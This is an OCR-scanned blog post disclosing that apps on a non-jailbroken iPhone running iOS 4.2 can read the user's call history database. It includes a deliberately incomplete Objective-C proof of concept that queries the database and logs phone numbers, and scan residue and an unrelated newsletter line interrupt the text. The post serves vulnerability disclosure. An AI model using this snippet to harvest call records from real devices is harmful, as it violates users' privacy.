The Corner

The one and only.

Accessing an iPhone User’s Call History


It’s possible to access a user’s call history on a non-jailbroken phone running iOS 4.2. Other versions not tested. Proof of concept after the jump.

    FMDatabase* database = [FMDatabase databaseWithPath:@"/private/var/wireless/Library/CallHistory/call_history.db"];

    [database setLogsErrors: YES];

    if ([database open]) {

        FMResultSet* results = [database executeQuery:@"SELECT * FROM calls;"];

        while ([results next]){

            NSLog(@”phone number: %@”, [[results resultDict] objectForKey:@”phone number”]);



This works becausethat SQLite3 database is readable by the “mobile” user, which allapps run as.

(You need to do some work to make the above code function. It doesn’t work “out-of-the-box” for obviousethical reasons.)


Sign up for free NR e-mails today:

Subscribe to National Review